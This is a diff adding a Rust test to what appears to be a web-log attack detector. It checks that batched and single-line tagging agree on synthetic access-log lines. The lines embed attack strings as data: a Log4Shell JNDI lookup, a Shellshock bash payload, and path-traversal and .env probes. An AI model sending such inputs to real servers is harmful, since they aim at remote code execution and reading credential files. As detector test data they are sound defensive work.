@@ -496,3 +496,45 @@ fn tags_are_the_same_when_the_request_memo_gives_up() {
         assert_eq!(rec["attacks"].as_array().unwrap().len(), want, "line {i}");
     }
 }
+
+#[test]
+fn a_remembered_value_is_tagged_as_on_first_sight() {
+    // Requests, Referers and User-Agents repeat (with and without hits, in mixed case
+    // and encodings): each line's attacks are those it gets alone in a batch.
+    let requests = [
+        "GET /.env HTTP/1.1",
+        "GET / HTTP/1.1",
+        "GET /%2e%2e/%2E%2E/etc/passwd HTTP/1.0",
+    ];
+    let referers = ["-", "${jndi:ldap://x/a}", "https://example.com/"];
+    let agents = ["curl/8.0", "() { :; }; /bin/bash -c id", "Mozilla/5.0"];
+    let lines: Vec<String> = (0..60)
+        .map(|i| {
+            format!(
+                r#"192.0.2.{} - - [19/Jul/2022:13:23:20 +0200] "{}" 200 1 "{}" "{}""#,
+                i % 7,
+                requests[i % 3],
+                referers[i / 3 % 3],
+                agents[i / 9 % 3]
+            )
+        })
+        .collect();
+    let filter = Filter::new(&[]).unwrap();
+    let (together, _, _) = run(&filter, &mut NoLookupsForTest, 1, None, &lines);
+    let mut hits = 0;
+    for (i, line) in lines.iter().enumerate() {
+        let (alone, _, _) = run(
+            &filter,
+            &mut NoLookupsForTest,
+            1 + i as u64,
+            None,
+            std::slice::from_ref(line),
+        );
+        assert_eq!(
+            together[i]["attacks"], alone[0]["attacks"],
+            "line {i}: {line}"
+        );
+        hits += alone[0]["attacks"].as_array().unwrap().len();
+    }
+    assert!(hits >= 60, "{hits} hits: the test needs values with hits");
+}
